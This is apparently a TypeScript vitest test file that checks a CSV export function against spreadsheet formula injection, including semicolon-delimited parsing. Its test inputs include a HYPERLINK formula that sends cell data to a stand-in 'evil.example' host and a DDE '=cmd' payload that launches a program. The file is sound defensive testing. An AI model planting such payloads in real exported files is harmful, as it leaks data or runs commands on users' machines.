import { describe, expect, it } from 'vitest'
import { csvCell } from '../../server/engine/export.ts'

/** A line as a program reads it for which semicolons part cells: a cell that begins with a quote ends with the next single one. */
function bySemicolons(line: string): string[] {
  const cells: string[] = []
  let at = 0
  while (at <= line.length) {
    let cell = ''
    if (line[at] === '"') {
      at += 1
      for (; at < line.length; at += 1) {
        if (line[at] === '"' && line[at + 1] !== '"') break
        if (line[at] === '"') at += 1
        cell += line[at]
      }
      at += 1
    }
    while (at < line.length && line[at] !== ';') {
      cell += line[at]
      at += 1
    }
    cells.push(cell)
    at += 1
  }
  return cells
}

const BEGINS = /^[\s"]*[=+\-@＝＋－＠]/

describe('[security] a cell that somebody wrote is no formula', () => {
  it.each([
    '=1+1',
    '+1+1',
    '@SUM(A1)',
    '-1+1|cmd',
    'x;=1+1',
    'x;"=1+1;y',
    'x;""=1+1;y',
    'x;"=HYPERLINK("http://evil.example/?"&A1,"ok");y',
    "x;\"=cmd|'/C calc'!A0;y",
    'x\n"=1+1',
    '＝1+1',
    'x;＋1+1',
  ])('%j: neither where commas part cells nor where semicolons do', (text) => {
    const cell = csvCell(text)
    const whole = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell
    for (const line of whole.split('\n')) expect(line).not.toMatch(/^[=+\-@＝＋－＠]/)
    for (const line of `first,${cell},last`.split('\n'))
      for (const part of bySemicolons(line)) expect(part).not.toMatch(BEGINS)
  })

  it.each([
    ['-12.50', '-12.50'],
    ['a "word" said', '"a ""word"" said"'],
    ['plain; text', '"plain; text"'],
  ])('%j stays what it is', (text, cell) => {
    expect(csvCell(text)).toBe(cell)
  })
})
